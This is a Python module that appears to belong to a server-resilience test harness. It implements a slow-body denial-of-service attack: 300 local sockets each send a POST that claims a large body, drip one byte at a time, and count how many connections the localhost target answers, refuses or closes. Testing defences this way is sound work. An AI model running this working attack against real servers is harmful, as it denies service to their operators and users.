"""A visitor whose requests are answered, and whose bodies go on for ever, a byte at a time."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter

from attack.target import Target

SOCKETS = 300
HERE = "127.0.0.66"
"""He comes from a network of his own: those who share his address share his bounds."""
REQUEST = b"POST /nowhere HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{"


async def attack(target: Target) -> str:
    """Goes on for about `target.seconds`, then says how many of the connections were kept from dripping."""
    end = time.monotonic() + target.seconds
    seen: Counter[str] = Counter()

    async def one() -> None:
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", target.ports["web"], local_addr=(HERE, 0)
                )
                writer.write(REQUEST)
                answer = await reader.read(12)
                seen["answered" if answer[9:12] == b"404" else "refused"] += 1
                while time.monotonic() < end and not reader.at_eof():
                    writer.write(b" ")
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.5):
                            await reader.read(1000)
                seen["closed"] += time.monotonic() < end
                writer.close()
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one() for _ in range(SOCKETS)))
    return f"{seen['answered']} answered, {seen['refused']} refused, {seen['closed']} closed"
